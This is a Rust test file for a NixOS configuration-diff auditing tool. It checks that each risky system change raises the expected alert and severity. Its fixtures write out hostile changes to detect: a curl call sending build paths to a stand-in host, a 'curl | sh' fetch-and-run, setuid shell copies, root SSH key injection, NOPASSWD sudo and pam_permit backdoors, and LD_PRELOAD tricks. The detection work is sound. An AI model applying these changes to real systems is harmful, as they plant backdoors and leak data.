//! One test per alert kind: a base system and, for each kind, a variant
//! that changes only that. All systems are built once per test binary,
//! with one `nix build`, and every test diffs the base against its
//! variant. A test checks that its alert is raised with the expected
//! severity, and that nothing else is.

mod common;

use std::collections::BTreeMap;
use std::path::Path;
use std::sync::OnceLock;

use common::TestEnv;
use countersign_core::StorePath;
use countersign_nix::diff::{
    Alert, AlertKind, DiffDocument, REDACTED, Severity, package_diff,
    render_text, system_alerts, system_diff,
};
use countersign_nix::fixture::{
    EtcOwner, Group, InitrdCompression, Package, SystemSpec, User, Wrapper,
};

const PHONE: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINeDGYNVoIPqf4EHCPPlFzeP/P4mllH8PKUTwgB/BDs0 phone";
const LAPTOP: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIF/dBG1/FAmeLRlecqgpS6UQ7b80Y2R72/c0dZWhmdm7 laptop";
const PASSWORD_HASH: &str =
    "$6$saltsaltsalt$QnKx1bU4o0Y2a8jDmvTq7mRkxy1m3Yb4nB9VQ9o6Gx3zG2d1Xc0";

fn policy(threshold: u32, with_laptop: bool) -> String {
    let mut text = format!(
        "host = \"demo\"\nthreshold = {threshold}\n\n\
         [approvers.phone]\nssh = \"{PHONE}\"\n"
    );
    if with_laptop {
        text.push_str(&format!("\n[approvers.laptop]\nssh = \"{LAPTOP}\"\n"));
    }
    text
}

fn base_spec(log: &Path) -> SystemSpec {
    let mut spec = SystemSpec::demo("demo", log);
    spec.policy_toml = Some(policy(2, true));
    spec.set_store_file("motd-setup", "#!/bin/sh\necho welcome > /run/motd\n");
    spec.set_activation_snippet("motd", "@file:motd-setup@\n");
    // Files that sudoers and nix.conf include from the store.
    spec.set_store_file("sudoers-extra", "# no extra rules\n");
    spec.edit_etc("sudoers", |t| {
        format!("{t}@include @file:sudoers-extra@\n")
    });
    // sshd_config names a store file of CA keys and includes another.
    spec.set_store_file("sshd-ca-keys", &format!("{LAPTOP}\n"));
    spec.set_store_file("sshd-extra.conf", "# no extra settings\n");
    spec.edit_etc("ssh/sshd_config", |t| {
        format!(
            "{t}TrustedUserCAKeys @file:sshd-ca-keys@\n\
             Include @file:sshd-extra.conf@\n"
        )
    });
    // A PAM session script and a Nix post-build hook, generated files
    // without a version.
    spec.set_store_file("pam-session-hook", "#!/bin/sh\nexit 0\n");
    spec.edit_etc("pam.d/sshd", |t| {
        format!("{t}session optional pam_exec.so @file:pam-session-hook@\n")
    });
    spec.set_store_file("post-build-hook", "#!/bin/sh\nexit 0\n");
    spec.set_store_file("nix-extra.conf", "# no extra settings\n");
    spec.edit_etc("nix/nix.conf", |t| {
        format!(
            "{t}post-build-hook = @file:post-build-hook@\n\
             !include @file:nix-extra.conf@\n"
        )
    });
    spec.set_store_file("sudo-rules", "# no rules\n");
    spec.set_package(Package::with_binary("bash", "5.2p37"));
    spec.set_package(Package::unit_script("backup", "echo backing up"));
    spec.set_unit(
        "backup.service",
        "[Service]\nUser=backup\n\
         ExecStart=@pkg:unit-script-backup-start@/bin/backup-start\n",
    );
    spec.set_unit_alias("nightly-backup.service", "backup.service");
    let mut rescue = spec.clone();
    rescue
        .kernel_params
        .push("systemd.unit=rescue.target".to_owned());
    spec.specialisations = vec![("rescue".to_owned(), rescue)];
    spec
}

/// Adds `/etc` files that sudoers (by a relative name), nix.conf and
/// sshd_config (by a pattern) include, with the given texts.
fn etc_includes(s: &mut SystemSpec, sudo: &str, nix: &str, sshd: &str) {
    s.edit_etc("sudoers", |t| format!("{t}@include sudoers.local\n"));
    s.set_etc("sudoers.local", sudo);
    s.edit_etc("nix/nix.conf", |t| {
        format!("{t}!include /etc/nix/local.conf\n")
    });
    s.set_etc("nix/local.conf", nix);
    s.edit_etc("ssh/sshd_config", |t| {
        format!("{t}Include /etc/ssh/sshd_config.d/*.conf\n")
    });
    s.set_etc("ssh/sshd_config.d/10-local.conf", sshd);
}

/// Makes sshd read keys from `/etc/ssh/keys/<user>` too, with a file
/// there for admin and, when `root`, one for root.
fn ssh_keys_folder(s: &mut SystemSpec, root: bool) {
    s.edit_etc("ssh/sshd_config", |t| {
        t.replace(
            "/etc/ssh/authorized_keys.d/%u",
            "/etc/ssh/authorized_keys.d/%u /etc/ssh/keys/%u",
        )
    });
    s.set_etc("ssh/keys/admin", &format!("{LAPTOP}\n"));
    if root {
        s.set_etc("ssh/keys/root", &format!("{PHONE}\n"));
    }
}

type Change = fn(&mut SystemSpec);

/// Variants that change files without changing their meaning.
const SILENT_VARIANTS: &[&str] = &["bumped", "unit-reordered"];

/// Lists the variants: a name, and the change from the base.
fn variants() -> Vec<(&'static str, Change)> {
    vec![
        ("bumped", |s| {
            // Versions of packages that units, scripts, wrappers and the
            // firewall name; nothing of meaning changes.
            s.set_package(Package::with_binary("hello", "2.12.2"));
            s.set_package(Package {
                name: "openssh".into(),
                version: "9.9p2".into(),
                files: vec![
                    ("bin/ssh".into(), "#!/bin/sh\necho 'ssh 9.9p2'\n".into()),
                    (
                        "bin/sshd".into(),
                        "#!/bin/sh\necho 'sshd 9.9p2'\n".into(),
                    ),
                ],
            });
            s.set_package(Package::with_binary("coreutils", "9.6"));
            s.set_package(Package::with_binary("util-linux", "2.40.4"));
            s.set_package(Package::with_binary("iptables", "1.8.12"));
            s.set_package(Package::with_binary("libcap", "2.71"));
            for (_, child) in &mut s.specialisations {
                child.set_package(Package::with_binary("hello", "2.12.2"));
            }
        }),
        ("policy", |s| s.policy_toml = Some(policy(1, false))),
        ("user-added", |s| {
            let mut eve = User::normal("eve", 1001);
            eve.extra_groups = vec!["wheel".into()];
            s.users.push(eve);
        }),
        ("user-removed", |s| s.users.retain(|u| u.name != "admin")),
        ("user-uid", |s| s.user_mut("admin").unwrap().uid = Some(0)),
        ("users-decoy", |s| {
            // The `users` snippet also names another users data file,
            // in a comment added after its command.
            s.user_mut("admin").unwrap().uid = Some(0);
            s.set_activation_snippet(
                "users",
                "# /nix/store/00000000000000000000000000000000-users-groups.json",
            );
            s.dry_activation_snippets.push("users".into());
        }),
        ("user-shell", |s| {
            s.user_mut("sshd").unwrap().shell =
                "/run/current-system/sw/bin/bash".into();
        }),
        ("user-password", |s| {
            s.user_mut("admin").unwrap().hashed_password =
                Some(PASSWORD_HASH.into());
        }),
        ("user-empty-password", |s| {
            s.user_mut("admin").unwrap().hashed_password = Some(String::new());
        }),
        ("group-member", |s| {
            s.user_mut("sshd").unwrap().extra_groups = vec!["wheel".into()];
        }),
        ("mutable-users", |s| s.mutable_users = true),
        ("ssh-key-root", |s| {
            s.user_mut("root").unwrap().authorized_keys = vec![LAPTOP.into()];
        }),
        ("ssh-key-uid-zero", |s| {
            // admin gets uid 0 and another key: a key login as admin is
            // a root login.
            let admin = s.user_mut("admin").unwrap();
            admin.uid = Some(0);
            admin.authorized_keys.push(PHONE.into());
        }),
        // sshd_config also reads keys from /etc/ssh/keys/%u. The pair
        // differs in a key file for root there.
        ("ssh-keys-folder", |s| ssh_keys_folder(s, false)),
        ("ssh-keys-folder-root", |s| ssh_keys_folder(s, true)),
        ("ssh-key-removed", |s| {
            s.user_mut("admin").unwrap().authorized_keys.clear();
        }),
        ("sshd", |s| {
            s.edit_etc("ssh/sshd_config", |t| {
                t.replace(
                    "PermitRootLogin prohibit-password",
                    "PermitRootLogin yes",
                )
            });
        }),
        ("sshd-match", |s| {
            // A `Match` block that every connection matches.
            s.edit_etc("ssh/sshd_config", |t| {
                format!("{t}Match Address *\n  PermitRootLogin yes\n")
            });
        }),
        ("ssh-other", |s| {
            s.set_etc("ssh/ssh_known_hosts", "host ssh-ed25519 AAAA\n")
        }),
        ("sudo", |s| {
            s.edit_etc("sudoers", |t| {
                format!("{t}alice ALL=(ALL:ALL) NOPASSWD: ALL\n")
            });
        }),
        ("sshd-ca-keys", |s| {
            // The file keeps its name and path; another CA key now
            // signs certificates that sshd accepts.
            s.set_store_file("sshd-ca-keys", &format!("{LAPTOP}\n{PHONE}\n"));
        }),
        ("sshd-include", |s| {
            s.set_store_file("sshd-extra.conf", "PermitEmptyPasswords yes\n");
        }),
        ("pam-exec-script", |s| {
            s.set_store_file(
                "pam-session-hook",
                "#!/bin/sh\necho \"$PAM_USER\" >> /tmp/x\n",
            );
        }),
        ("nix-hook-script", |s| {
            s.set_store_file(
                "post-build-hook",
                "#!/bin/sh\ncurl -d \"$OUT_PATHS\" http://x.invalid\n",
            );
        }),
        ("sudo-include", |s| {
            // sudoers keeps its `@include` line; the included file gains
            // a rule.
            s.set_store_file(
                "sudoers-extra",
                "alice ALL=(ALL:ALL) NOPASSWD: ALL\n",
            );
        }),
        ("sudo-relative-link", |s| {
            // A file of sudoers.d that is a relative link into another
            // store path.
            s.set_store_file(
                "sudo-rules",
                "alice ALL=(ALL:ALL) NOPASSWD: ALL\n",
            );
            s.etc_relative_links
                .push(("sudoers.d/10-extra".into(), "sudo-rules".into()));
        }),
        ("pam-relative-link", |s| {
            s.set_store_file("sudo-rules", "auth sufficient pam_permit.so\n");
            s.remove_etc("pam.d/sudo");
            s.etc_relative_links
                .push(("pam.d/sudo".into(), "sudo-rules".into()));
        }),
        ("sudo-uid", |s| {
            // sudoers names a user by uid with `#`, which is not a
            // comment there.
            s.edit_etc("sudoers", |t| {
                format!("{t}#1000 ALL=(ALL:ALL) NOPASSWD: ALL\n")
            });
        }),
        // sudoers, nix.conf and sshd_config include files of /etc
        // (outside the store). Each pair below differs in that file only.
        ("etc-includes", |s| {
            etc_includes(s, "# none\n", "# none\n", "# none\n")
        }),
        ("etc-includes-changed", |s| {
            etc_includes(
                s,
                "alice ALL=(ALL:ALL) NOPASSWD: ALL\n",
                "trusted-users = root alice\n",
                "PermitEmptyPasswords yes\n",
            )
        }),
        ("sudo-conf", |s| {
            // sudo loads its policy plugin from the path that sudo.conf
            // gives, as root.
            s.set_etc(
                "sudo.conf",
                "Plugin sudoers_policy /var/lib/x/sudoers.so\n",
            );
        }),
        ("sudo-defaults", |s| {
            s.edit_etc("sudoers", |t| format!("{t}Defaults !authenticate\n"));
        }),
        ("doas", |s| {
            s.edit_etc("doas.conf", |t| {
                format!("{t}permit nopass alice as root\n")
            });
        }),
        ("wrapper-added", |s| {
            s.wrappers.push(Wrapper::setuid_root(
                "rootshell",
                "bash",
                "bin/bash",
            ));
        }),
        ("wrapper-changed", |s| {
            s.wrappers
                .iter_mut()
                .find(|w| w.program == "ping")
                .unwrap()
                .capabilities = "cap_net_raw,cap_net_admin+p".into();
        }),
        ("wrapper-removed", |s| {
            s.wrappers.retain(|w| w.program != "sudo")
        }),
        ("firewall-port", |s| {
            s.firewall.as_mut().unwrap().allowed_tcp_ports.push(8080);
        }),
        ("firewall-closed", |s| {
            s.firewall.as_mut().unwrap().allowed_tcp_ports.clear();
        }),
        ("firewall-rule", |s| {
            s.firewall.as_mut().unwrap().extra_commands =
                "iptables -I INPUT -s 203.0.113.7 -j ACCEPT\n".into();
        }),
        ("firewall-drop-in", |s| {
            // A drop-in runs another script of the same store name.
            s.set_package(Package {
                name: "firewall-start".into(),
                version: String::new(),
                files: vec![(
                    "bin/firewall-start".into(),
                    "#!/bin/sh\niptables -P INPUT ACCEPT\n".into(),
                )],
            });
            s.set_unit(
                "firewall.service.d/overrides.conf",
                "[Service]\nExecStart=\n\
                 ExecStart=@@pkg:firewall-start@/bin/firewall-start firewall-start\n",
            );
        }),
        ("firewall-off", |s| s.firewall = None),
        ("nftables", |s| {
            s.nftables_ruleset = Some(
                "table inet filter {\n  chain input {\n    \
                 type filter hook input priority 0; policy drop;\n    \
                 tcp dport { 22, 443 } accept\n  }\n}\n"
                    .into(),
            );
        }),
        ("kernel", |s| s.kernel_version = "6.6.64".into()),
        ("switch-script", |s| s.fail_switch = true),
        ("bootspec-params", |s| {
            // boot.json gives the boot loader other parameters than
            // kernel-params shows.
            let mut params = s.kernel_params.clone();
            params.push("init=/tmp/x".into());
            s.bootspec_kernel_params = Some(params);
        }),
        ("bootspec-removed", |s| s.bootspec = false),
        ("initrd-ssh-key", |s| {
            s.initrd.files.push((
                "etc/ssh/authorized_keys.d/root".into(),
                format!("{LAPTOP}\n"),
                0o644,
            ));
        }),
        ("initrd-stage-1", |s| {
            s.initrd.stage1_commands =
                "cp /bin/sh /mnt-root/tmp/sh && chmod 4755 /mnt-root/tmp/sh"
                    .into();
        }),
        ("initrd-gzip", |s| {
            s.initrd.compression = InitrdCompression::Gzip;
        }),
        ("initrd-xz", |s| {
            s.initrd.compression = InitrdCompression::XzHeader;
        }),
        ("initrd-secrets", |s| {
            s.initrd_secrets.push((
                "/etc/ssh/ssh_host_ed25519_key".into(),
                "/etc/secrets/initrd/ssh_host_ed25519_key".into(),
            ));
        }),
        ("kernel-params", |s| {
            s.kernel_params.push("mitigations=off".into())
        }),
        ("kernel-params-spelled", |s| {
            // The kernel and systemd read `_` and `-` in a parameter
            // name as the same character.
            s.kernel_params.push("systemd.debug_shell".into())
        }),
        ("modules", |s| {
            s.set_etc("modules-load.d/nixos.conf", "tcp_bbr\nvfio\n")
        }),
        ("modprobe-install", |s| {
            s.edit_etc("modprobe.d/nixos.conf", |t| {
                format!("{t}install dummy /bin/sh -c 'id > /tmp/pwned'\n")
            });
        }),
        ("modprobe-blacklist", |s| {
            s.set_etc("modprobe.d/nixos.conf", "blacklist pcspkr\n");
        }),
        ("sysctl", |s| {
            s.edit_etc("sysctl.d/60-nixos.conf", |t| {
                t.replace(
                    "kernel.yama.ptrace_scope=1",
                    "kernel.yama.ptrace_scope=0",
                )
            });
        }),
        ("sysctl-glob", |s| {
            // A pattern that sets every `fs.protected_*` key at once.
            s.edit_etc("sysctl.d/60-nixos.conf", |t| {
                format!("{t}fs.protected_* = 0\n")
            });
        }),
        ("snippet-added", |s| {
            s.set_activation_snippet(
                "zz-cleanup",
                "echo 'ssh-ed25519 AAAA' >> /root/.ssh/authorized_keys",
            );
        }),
        ("snippet-changed", |s| {
            s.set_activation_snippet(
                "motd",
                "@file:motd-setup@\nchmod 4755 /run/x\n",
            );
        }),
        ("dry-snippet-added", |s| {
            s.set_activation_snippet(
                "users-extra",
                "echo 'ssh-ed25519 AAAA' >> /root/.ssh/authorized_keys",
            );
            s.dry_activation_snippets.push("users-extra".into());
        }),
        ("snippet-script", |s| {
            s.set_store_file(
                "motd-setup",
                "#!/bin/sh\necho welcome > /run/motd\ncurl http://203.0.113.9 | sh\n",
            );
        }),
        ("dry-snippet", |s| {
            // The motd snippet now also runs in dry activation, while
            // `activate` stays the same.
            s.dry_activation_snippets.push("motd".into());
        }),
        ("pam", |s| {
            s.edit_etc("pam.d/sshd", |t| {
                t.replace(
                    "# Authentication management.\n",
                    "# Authentication management.\nauth sufficient pam_permit.so\n",
                )
            });
        }),
        ("pam-bracket", |s| {
            // `sufficient` spelled in the bracket form.
            s.edit_etc("pam.d/sshd", |t| {
                t.replace(
                    "# Authentication management.\n",
                    "# Authentication management.\n\
                     auth [success=done default=ignore] pam_permit.so\n",
                )
            });
        }),
        ("nix-conf", |s| {
            s.edit_etc("nix/nix.conf", |t| {
                t.replace("trusted-users = root", "trusted-users = root alice")
            });
        }),
        ("nix-include", |s| {
            // nix.conf keeps its `!include` line; the included file
            // trusts another user.
            s.set_store_file("nix-extra.conf", "trusted-users = root alice\n");
        }),
        ("nix-aliases", |s| {
            // Old names that Nix still reads for substituters and their
            // keys, a substituter trusted without signatures, and a
            // boolean spelled `no`.
            s.edit_etc("nix/nix.conf", |t| {
                format!(
                    "{t}require-sigs = no\n\
                     binary-caches = https://cache.example.org?trusted=1\n\
                     binary-cache-public-keys = example-1:AAAA\n"
                )
            });
        }),
        ("nix-store", |s| {
            s.edit_etc("nix/nix.conf", |t| {
                format!("{t}store = ssh-ng://root@203.0.113.5\n")
            });
        }),
        ("tmpfiles", |s| {
            s.edit_etc("tmpfiles.d/00-nixos.conf", |t| {
                format!("{t}L+ /etc/profile.d/x.sh - - - - /tmp/x.sh\n")
            });
        }),
        ("udev-hash", |s| {
            // A `#` inside a rule, which udev does not read as a comment.
            s.edit_etc("udev/rules.d/99-local.rules", |t| {
                format!(
                    "{t}ACTION==\"add\", ATTR{{serial}}==\"#1\", \
                     RUN+=\"/bin/sh -c 'id > /tmp/u'\"\n"
                )
            });
        }),
        ("tmpfiles-specifier", |s| {
            // `%E` is /etc for systemd-tmpfiles.
            s.edit_etc("tmpfiles.d/00-nixos.conf", |t| {
                format!(
                    "{t}f+ %E/sudoers.d/50-extra 0440 root root - \
                     alice ALL=(ALL) NOPASSWD: ALL\n"
                )
            });
        }),
        ("udev", |s| {
            s.edit_etc("udev/rules.d/99-local.rules", |t| {
                format!(
                    "{t}ACTION==\"add\", RUN+=\"/bin/sh -c 'id > /tmp/u'\"\n"
                )
            });
        }),
        ("polkit", |s| {
            s.set_etc(
                "polkit-1/rules.d/10-nixos.rules",
                "polkit.addRule(function(action, subject) {\n  \
                 return polkit.Result.YES;\n});\n",
            );
        }),
        ("etc-mode", |s| {
            s.etc_owners.push(EtcOwner {
                path: "sudoers".into(),
                mode: "0666".into(),
                user: "root".into(),
                group: "root".into(),
            });
        }),
        ("preload", |s| {
            s.set_etc("ld-nix.so.preload", "/tmp/evil.so\n")
        }),
        ("nsswitch", |s| {
            s.set_etc("nsswitch.conf", "passwd: files evil\n")
        }),
        ("dbus-policy", |s| {
            s.set_etc(
                "dbus-1/system.d/evil.conf",
                "<busconfig><policy context=\"default\">\
                 <allow send_destination=\"*\"/></policy></busconfig>\n",
            )
        }),
        ("login-defs", |s| s.set_etc("login.defs", "UMASK 000\n")),
        ("profile", |s| {
            s.set_etc("profile", "export PATH=/tmp:$PATH\n")
        }),
        ("outside-link", |s| {
            s.etc_links
                .push(("resolv.conf".into(), "/run/resolv.conf".into()));
        }),
        ("user-unit", |s| {
            // A systemd user unit, started for every user's manager.
            s.set_etc(
                "systemd/user/default.target.wants/agent.service",
                "[Service]\nExecStart=/tmp/agent\n",
            );
        }),
        ("systemd-manager", |s| {
            s.set_etc(
                "systemd/system.conf",
                "[Manager]\nDefaultEnvironment=LD_PRELOAD=/tmp/x.so\n",
            );
        }),
        ("group-gid-alias", |s| {
            // A group that shares wheel's gid: its members are in wheel
            // for every program that checks the gid.
            s.groups.push(Group::new("staff", 1));
            s.user_mut("sshd").unwrap().extra_groups = vec!["staff".into()];
        }),
        ("path-added", |s| {
            s.set_package(Package::with_binary("jq", "1.7.1"))
        }),
        ("path-shadowed", |s| {
            // Another package now provides the `hello` command; the
            // system path links the first package that has a name.
            s.packages.insert(
                0,
                Package {
                    name: "hello-ng".into(),
                    version: "1.0".into(),
                    files: vec![(
                        "bin/hello".into(),
                        "#!/bin/sh\nid\n".into(),
                    )],
                },
            );
        }),
        ("sudoers-outside", |s| {
            s.remove_etc("sudoers");
            s.etc_links.push(("sudoers".into(), "/etc/shadow".into()));
        }),
        ("unit-added", |s| {
            s.set_unit("miner.service", "[Service]\nExecStart=/tmp/miner\n");
        }),
        ("unit-root", |s| {
            s.set_unit(
                "backup.service",
                "[Service]\nExecStart=@pkg:unit-script-backup-start@/bin/backup-start\n",
            );
        }),
        ("unit-privileged", |s| {
            s.set_unit(
                "backup.service",
                "[Service]\nUser=backup\nExecStartPre=+/bin/sh -c 'id'\n\
                 ExecStart=@pkg:unit-script-backup-start@/bin/backup-start\n",
            );
        }),
        ("unit-search-path", |s| {
            // A command without a folder, which systemd looks up in
            // `ExecSearchPath=` (or its default PATH), outside the store.
            s.set_unit(
                "backup.service",
                "[Service]\nUser=backup\nExecSearchPath=/var/lib/backup/bin\n\
                 ExecStartPre=prepare\n\
                 ExecStart=@pkg:unit-script-backup-start@/bin/backup-start\n",
            );
        }),
        ("unit-reordered", |s| {
            // The same directives in another order, with comments and
            // other spacing: nothing changes for systemd.
            s.set_unit(
                "backup.service",
                "# Nightly backup.\n[Service]\n\
                 ExecStart = @pkg:unit-script-backup-start@/bin/backup-start\n\n\
                 ; runs unprivileged\nUser=backup\n",
            );
        }),
        ("unit-drop-in", |s| {
            s.set_unit(
                "backup.service.d/overrides.conf",
                "[Service]\nUser=\nAmbientCapabilities=CAP_NET_ADMIN\n",
            );
        }),
        ("unit-drop-in-root", |s| {
            s.set_unit(
                "backup.service.d/overrides.conf",
                "[Service]\nUser=root\n",
            );
        }),
        ("unit-alias-drop-in", |s| {
            // systemd applies the drop-ins of an alias's folder to the
            // unit the alias names.
            s.set_unit(
                "nightly-backup.service.d/overrides.conf",
                "[Service]\nUser=root\n",
            );
        }),
        ("unit-alias-added", |s| {
            s.set_unit_alias("backup-now.service", "backup.service");
        }),
        ("unit-type-drop-in", |s| {
            // A drop-in for every service: each one without a later
            // `User=` of its own now runs as root.
            s.set_unit("service.d/zz.conf", "[Service]\nUser=root\n");
        }),
        ("unit-script", |s| {
            s.set_package(Package::unit_script(
                "backup",
                "echo backing up\ncp /bin/sh /tmp/sh && chmod 4755 /tmp/sh",
            ));
        }),
        ("unit-script-decoy", |s| {
            // The script changes, and a comment names a second path of
            // the same store name, so the two versions do not pair.
            s.set_package(Package::unit_script(
                "backup",
                "echo backing up\ncp /bin/sh /tmp/sh && chmod 4755 /tmp/sh",
            ));
            s.set_unit(
                "backup.service",
                "[Service]\nUser=backup\n\
                 ExecStart=@pkg:unit-script-backup-start@/bin/backup-start\n\
                 # /nix/store/00000000000000000000000000000000-unit-script-backup-start\n",
            );
        }),
        ("specialisation-added", |s| {
            let mut debug = s.clone();
            debug.specialisations.clear();
            debug.kernel_params.push("systemd.debug-shell".into());
            s.specialisations.push(("debug".into(), debug));
        }),
        ("specialisation", |s| {
            let (_, rescue) = &mut s.specialisations[0];
            rescue.edit_etc("ssh/sshd_config", |t| {
                t.replace(
                    "PermitRootLogin prohibit-password",
                    "PermitRootLogin yes",
                )
            });
        }),
    ]
}

struct Systems {
    env: TestEnv,
    built: BTreeMap<String, StorePath>,
}

/// Builds the base and every variant once for this test binary.
fn systems() -> &'static Systems {
    static SYSTEMS: OnceLock<Systems> = OnceLock::new();
    SYSTEMS.get_or_init(|| {
        let env = TestEnv::new();
        let base = base_spec(&env.switch_log());
        let mut specs = vec![("base".to_owned(), base.clone())];
        for (index, (name, change)) in variants().into_iter().enumerate() {
            let mut spec = base.clone();
            change(&mut spec);
            // A distinct label identifies each built system. The diff
            // reduces it away with the rest of the version.
            spec.label = format!("25.05.{}", index + 1);
            specs.push((name.to_owned(), spec));
        }
        let named: Vec<(&str, &SystemSpec)> =
            specs.iter().map(|(n, s)| (n.as_str(), s)).collect();
        let built = env.build_set("systems", &named);
        Systems { env, built }
    })
}

fn path(name: &str) -> &'static StorePath {
    &systems().built[name]
}

/// Returns the alerts of the base against the variant `name`.
fn alerts_of(name: &str) -> Vec<Alert> {
    let diff = system_diff(path("base"), path(name)).unwrap();
    system_alerts(&diff)
}

/// Checks that the variant raises `expected` (kind and severity) and no
/// alert of a kind outside `allowed` (the expected kinds are allowed).
fn check(
    name: &str,
    expected: &[(AlertKind, Severity)],
    allowed: &[AlertKind],
) -> Vec<Alert> {
    let alerts = alerts_of(name);
    for (kind, severity) in expected {
        assert!(
            alerts
                .iter()
                .any(|a| a.kind == *kind && a.severity == *severity),
            "{name}: no {kind:?} at {severity:?} in {alerts:#?}"
        );
    }
    for alert in &alerts {
        assert!(
            expected.iter().any(|(kind, _)| *kind == alert.kind)
                || allowed.contains(&alert.kind),
            "{name}: unexpected {alert:#?}"
        );
    }
    alerts
}

use AlertKind as K;
use Severity as S;

#[test]
fn unchanged_pair_flags_nothing() {
    assert!(alerts_of("base").is_empty());
    let diff = system_diff(path("base"), path("base")).unwrap();
    assert!(diff.units.is_empty());
    assert!(diff.etc.is_empty());
}

#[test]
fn package_bump_raises_no_alert_but_shows_versions() {
    let alerts = alerts_of("bumped");
    assert!(alerts.is_empty(), "{alerts:#?}");
    let diff = system_diff(path("base"), path("bumped")).unwrap();
    let sshd = diff
        .units
        .iter()
        .find(|u| u.path == "sshd.service")
        .expect("sshd.service names the new openssh");
    assert!(sshd.only_store_paths_changed);
    assert_eq!(sshd.version_bumps[0].name, "openssh");
    assert_eq!(sshd.version_bumps[0].new_version, "9.9p2");
    let packages =
        package_diff(&systems().env.nix, path("base"), path("bumped"))
            .unwrap();
    let document = DiffDocument::assemble(None, packages, diff);
    assert!(document.alerts.is_empty(), "{:#?}", document.alerts);
    assert!(
        document
            .packages
            .version_changes
            .iter()
            .any(|c| c.name == "openssh" && !c.downgrade)
    );
}

#[test]
fn policy_change_is_critical() {
    let alerts = check("policy", &[(K::PolicyChanged, S::Critical)], &[]);
    let details: Vec<&str> =
        alerts.iter().map(|a| a.detail.as_str()).collect();
    assert!(details.contains(&"threshold 2 -> 1"), "{details:?}");
    assert!(details.contains(&"approver laptop removed"), "{details:?}");
}

#[test]
fn user_added_to_wheel() {
    let alerts = check(
        "user-added",
        &[(K::UserAdded, S::High), (K::GroupMemberAdded, S::High)],
        &[],
    );
    assert!(alerts.iter().any(|a| a.detail == "eve joins wheel"));
}

#[test]
fn user_removed() {
    // The admin's key file and wheel membership go with the account.
    check(
        "user-removed",
        &[(K::UserRemoved, S::Low), (K::GroupMemberRemoved, S::Low)],
        &[K::SshKeyRemoved],
    );
}

#[test]
fn users_data_behind_a_decoy() {
    let alerts = check(
        "users-decoy",
        &[
            (K::UserUidChanged, S::Critical),
            (K::ActivationSnippetChanged, S::High),
        ],
        &[],
    );
    assert_eq!(alerts.len(), 2, "{alerts:#?}");
}

#[test]
fn uid_zero_is_critical() {
    check("user-uid", &[(K::UserUidChanged, S::Critical)], &[]);
}

#[test]
fn login_shell_for_a_service_account() {
    check("user-shell", &[(K::UserShellChanged, S::High)], &[]);
}

#[test]
fn password_hash_change_is_flagged_and_never_shown() {
    let alerts =
        check("user-password", &[(K::UserPasswordChanged, S::High)], &[]);
    let diff = system_diff(path("base"), path("user-password")).unwrap();
    let document = DiffDocument::assemble(
        None,
        package_diff(&systems().env.nix, path("base"), path("user-password"))
            .unwrap(),
        diff,
    );
    let json = String::from_utf8(document.to_json()).unwrap();
    assert!(
        !json.contains("QnKx1bU4o0Y2a8jDmvTq7mRkxy1m3Yb4"),
        "the hash leaked"
    );
    assert!(
        json.contains(REDACTED),
        "the users data diff is shown redacted"
    );
    assert!(alerts.iter().all(|a| !a.detail.contains("$6$")));
}

#[test]
fn empty_password_is_critical() {
    check(
        "user-empty-password",
        &[(K::UserPasswordChanged, S::Critical)],
        &[],
    );
}

#[test]
fn service_account_joins_wheel() {
    check("group-member", &[(K::GroupMemberAdded, S::High)], &[]);
}

#[test]
fn mutable_users_flip() {
    check("mutable-users", &[(K::MutableUsersChanged, S::Medium)], &[]);
}

#[test]
fn root_ssh_key_is_critical() {
    let alerts = check("ssh-key-root", &[(K::SshKeyAdded, S::Critical)], &[]);
    assert!(
        alerts[0].detail.contains("SHA256:")
            && alerts[0].detail.contains("laptop"),
        "{alerts:#?}"
    );
}

#[test]
fn uid_zero_ssh_key_is_critical() {
    let alerts = check(
        "ssh-key-uid-zero",
        &[
            (K::UserUidChanged, S::Critical),
            (K::SshKeyAdded, S::Critical),
        ],
        &[],
    );
    let key = alerts.iter().find(|a| a.kind == K::SshKeyAdded).unwrap();
    assert!(key.detail.contains("uid 0"), "{alerts:#?}");
}

#[test]
fn ssh_key_in_configured_folder() {
    let diff =
        system_diff(path("ssh-keys-folder"), path("ssh-keys-folder-root"))
            .unwrap();
    let alerts = system_alerts(&diff);
    let key = alerts
        .iter()
        .find(|a| a.kind == K::SshKeyAdded)
        .unwrap_or_else(|| panic!("no key alert in {alerts:#?}"));
    assert_eq!(key.severity, S::Critical);
    assert_eq!(key.subject, "/etc/ssh/keys/root");
}

#[test]
fn ssh_key_removed() {
    check("ssh-key-removed", &[(K::SshKeyRemoved, S::Low)], &[]);
}

#[test]
fn root_login_over_ssh_is_critical() {
    let alerts = check("sshd", &[(K::SshdSettingChanged, S::Critical)], &[]);
    assert_eq!(alerts[0].detail, "PermitRootLogin prohibit-password -> yes");
}

#[test]
fn match_block_root_login_is_critical() {
    let alerts =
        check("sshd-match", &[(K::SshdSettingChanged, S::Critical)], &[]);
    assert_eq!(
        alerts[0].detail,
        "Match Address * (default) -> PermitRootLogin yes"
    );
}

#[test]
fn other_ssh_file() {
    check("ssh-other", &[(K::SshConfigChanged, S::Medium)], &[]);
}

#[test]
fn sudo_nopasswd_rule_is_critical() {
    check("sudo", &[(K::SudoRuleAdded, S::Critical)], &[]);
}

#[test]
fn sudo_uid_rule_is_critical() {
    let alerts = check("sudo-uid", &[(K::SudoRuleAdded, S::Critical)], &[]);
    assert!(
        alerts[0]
            .detail
            .contains("`#1000 ALL=(ALL:ALL) NOPASSWD: ALL`"),
        "{alerts:#?}"
    );
}

#[test]
fn etc_includes_are_read() {
    let diff = system_diff(path("etc-includes"), path("etc-includes-changed"))
        .unwrap();
    let alerts = system_alerts(&diff);
    let find = |kind: AlertKind, subject: &str| {
        alerts
            .iter()
            .find(|a| a.kind == kind && a.subject == subject)
            .unwrap_or_else(|| panic!("no {kind:?} in {alerts:#?}"))
    };
    let sudo = find(K::SudoRuleAdded, "/etc/sudoers");
    assert_eq!(sudo.severity, S::Critical);
    assert!(sudo.detail.contains("alice"), "{alerts:#?}");
    let nix = find(K::NixSettingChanged, "/etc/nix/nix.conf");
    assert_eq!(nix.severity, S::Critical);
    let sshd = find(K::SshdSettingChanged, "/etc/ssh/sshd_config");
    assert_eq!(sshd.severity, S::Critical);
    assert_eq!(sshd.detail, "PermitEmptyPasswords (default) -> yes");
}

#[test]
fn sudo_conf_plugin() {
    check("sudo-conf", &[(K::SudoConfigChanged, S::High)], &[]);
}

#[test]
fn sudo_defaults() {
    check("sudo-defaults", &[(K::SudoConfigChanged, S::High)], &[]);
}

